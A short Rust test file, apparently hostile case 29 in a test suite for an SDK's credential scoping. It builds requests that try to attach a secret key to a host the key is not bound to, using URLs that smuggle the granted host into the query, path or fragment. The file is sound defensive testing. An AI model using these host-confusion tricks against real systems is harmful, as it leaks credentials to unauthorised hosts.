//! 29: asks that its secret be attached towards a host that it isn't bound to, though requests to that host are granted.

use evenhand_sdk::http::Request;
use hostile::Targets;

fn requests(to: Targets) -> Vec<Request> {
    let host = to.granted.trim_start_matches("http://").to_owned();
    [
        format!("{}/", to.other),
        format!("{}/?{}", to.other, to.granted),
        format!("{}/{host}", to.other),
        format!("{}/#{host}", to.other),
    ]
    .map(|url| Request::get(url).credential("key"))
    .into()
}

hostile::requests!(requests);
